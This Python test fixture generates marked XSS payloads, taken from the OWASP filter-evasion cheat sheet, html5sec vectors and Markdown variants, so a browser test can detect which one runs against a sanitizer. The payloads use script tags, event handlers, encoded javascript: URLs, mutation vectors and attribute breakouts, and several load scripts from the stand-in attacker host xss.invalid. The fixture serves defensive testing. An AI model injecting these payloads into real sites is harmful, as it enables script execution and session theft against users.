"""Published XSS payloads, each marked so a browser test can tell exactly which one ran.

The reference list is the OWASP "XSS Filter Evasion Cheat Sheet"
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), plus the
HTML5 vectors (html5sec.org), mutation-XSS and polyglot classics it links to, and the Markdown
forms of the same tricks (links, images, autolinks). `$M` is replaced by a statement that sets a
global only this payload sets (`top.__xss_7=1`), `$N` by its number; a payload that can only
call `alert` opens a dialog, which the test also catches. `xss.invalid` stands for an attacker's
host: any request for it is a failure too.
"""

from __future__ import annotations

import re
from base64 import b64encode

EVIL = "http://xss.invalid"


def _encoded(text: str, form: str) -> str:
    if form == "dec":
        return "".join(f"&#{ord(c)};" for c in text)
    if form == "dec7":
        return "".join(f"&#{ord(c):07d}" for c in text)
    return "".join(f"&#x{ord(c):X};" for c in text)


_TEMPLATES: list[str] = [
    # --- the OWASP cheat sheet, in its order ---
    "<SCRIPT SRC=http://xss.invalid/xss.js></SCRIPT>",
    "<script>$M</script>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+$M//'>",
    '<IMG SRC="javascript:$M;">',
    "<IMG SRC=javascript:$M>",
    "<IMG SRC=JaVaScRiPt:$M>",
    "<IMG SRC=`javascript:$M`>",
    '<a onmouseover="$M">xxs link</a>',
    "<a onmouseover=$M>xxs link</a>",
    '<IMG """><SCRIPT>$M</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83,$N))>",
    "<IMG SRC=# onmouseover=\"$M\">",
    "<IMG SRC= onmouseover=\"$M\">",
    "<IMG onmouseover=\"$M\">",
    "<IMG SRC=/ onerror=\"$M\"></img>",
    "<img src=x onerror=\"<dec7>javascript:alert($N)</dec7>\">",
    "<IMG SRC=<dec>javascript:$M</dec>>",
    "<IMG SRC=<dec7>javascript:$M</dec7>>",
    "<IMG SRC=<hex>javascript:$M</hex>>",
    '<IMG SRC="jav\tascript:$M;">',
    '<IMG SRC="jav&#x09;ascript:$M;">',
    '<IMG SRC="jav&#x0A;ascript:$M;">',
    '<IMG SRC="jav&#x0D;ascript:$M;">',
    '<IMG SRC=" &#14;  javascript:$M;">',
    '<SCRIPT/XSS SRC="http://xss.invalid/xss.js"></SCRIPT>',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=$M>",
    "<SCRIPT/SRC=\"http://xss.invalid/xss.js\"></SCRIPT>",
    "<<SCRIPT>$M;//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.invalid/xss.js?< B >",
    "<SCRIPT SRC=//xss.invalid/.j>",
    '<IMG SRC="`<javascript:$M>`',
    "<iframe src=http://xss.invalid/scriptlet.html <",
    "</TITLE><SCRIPT>$M;</SCRIPT>",
    '<INPUT TYPE="IMAGE" SRC="javascript:$M;">',
    "<BODY BACKGROUND=\"javascript:$M\">",
    "<IMG DYNSRC=\"javascript:$M\">",
    "<IMG LOWSRC=\"javascript:$M\">",
    "<STYLE>li {list-style-image: url(\"javascript:$M\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=$M>",
    "<BODY ONLOAD=$M>",
    "<BGSOUND SRC=\"javascript:$M;\">",
    "<BR SIZE=\"&{$M}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:$M;\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.invalid/xss.css\">",
    "<STYLE>@import'http://xss.invalid/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.invalid/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.invalid/xssmoz.xml#xss\")}</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession($M)\">",
    "<STYLE TYPE=\"text/javascript\">$M;</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:$M\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:$M\")}</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:$M;\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,"
    + b64encode(b"<script>top.__xss_meta=1</script>").decode() + "\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:$M;\">",
    "<IFRAME SRC=\"javascript:top.$M;\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"$M\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:top.$M;\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:$M\">",
    "<TABLE><TD BACKGROUND=\"javascript:$M\">",
    "<DIV STYLE=\"background-image: url(javascript:$M)\">",
    "<DIV STYLE=\"width: expression($M);\">",
    "<BASE HREF=\"javascript:$M;//\">",
    "<BASE HREF=\"http://xss.invalid/\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.invalid/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,"
    + b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="top.__xss_embed=1"/>').decode()
    + "\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"http://xss.invalid/xss.js\"></SCRIPT>",
    "<A HREF=\"http://0x7f.0x0.0x0.0x1/\">XSS</A><A HREF=\"javascript:document.location='http://xss.invalid/'\">XSS</A>",
    # --- HTML5 and mutation vectors (html5sec.org and friends) ---
    "<details open ontoggle=$M>",
    "<video><source onerror=\"$M\"></video>",
    "<audio src=x onerror=$M>",
    "<input autofocus onfocus=$M>",
    "<form><button formaction=javascript:$M>X</button></form>",
    "<marquee onstart=$M>XSS</marquee>",
    "<iframe srcdoc=\"&lt;script&gt;top.$M&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:$M\"></object>",
    "<svg><script>$M</script></svg>",
    "<svg><a xlink:href=\"javascript:$M\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=$M></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=$M>\"></noscript>",
    "<!--<img src=\"--><img src=x onerror=$M//\">",
    "<img src=x:alert($N) onerror=eval(src) alt=0>",
    "<x onclick=$M>click me</x>",
    "<img srcset=\",,,,x\" onerror=$M>",
    "<a href=\"&#x6A;avascript:$M\">link</a>",
    "<a href=\"  javascript:$M\">link</a>",
    "<textarea>",
    "<style>",
    "<title>",
    "<xmp>",
    "<plaintext>",
    # --- breaking out of attributes, JSON-LD, and the theme's own markup ---
    "\"><script>$M</script>",
    "'><img src=x onerror=$M>",
    "</script><script>$M</script>",
    "\" onmouseover=\"$M\" x=\"",
    "' onfocus='$M' autofocus x='",
    "--></style></textarea></script><script>$M</script>",
    # --- Markdown's own forms of the same tricks ---
    "[markdown link](javascript:$M)",
    "[markdown link](JaVaScRiPt:$M)",
    "[markdown link](&#106;avascript:$M)",
    "[markdown link](data:text/html;base64,"
    + b64encode(b"<script>top.__xss_data=1</script>").decode() + ")",
    "[markdown link](vbscript:msgbox($N))",
    "![markdown image](javascript:$M)",
    "![markdown image\" onerror=\"$M](x)",
    "[markdown link](x \"title\\\" onmouseover=\\\"$M\")",
    "<javascript:$M>",
    "[[hostile-0|<img src=x onerror=$M>]]",
    "\x02wzxhzdk:0\x03 and \x02klzzwxh:1\x03",
]


def payloads() -> list[str]:
    """Every payload with its marker filled in; payload n sets `top.__xss_<n>` if it ever runs.

    `<dec>…</dec>` (and dec7, hex) mark text to write as character references, marker included.
    """
    found = []
    for n, template in enumerate(_TEMPLATES):
        text = template.replace("$M", f"top.__xss_{n}=1").replace("$N", str(n))
        found.append(re.sub(r"<(dec7|dec|hex)>(.*?)</\1>", lambda m: _encoded(m.group(2), m.group(1)), text))
    return found


PAYLOADS = payloads()
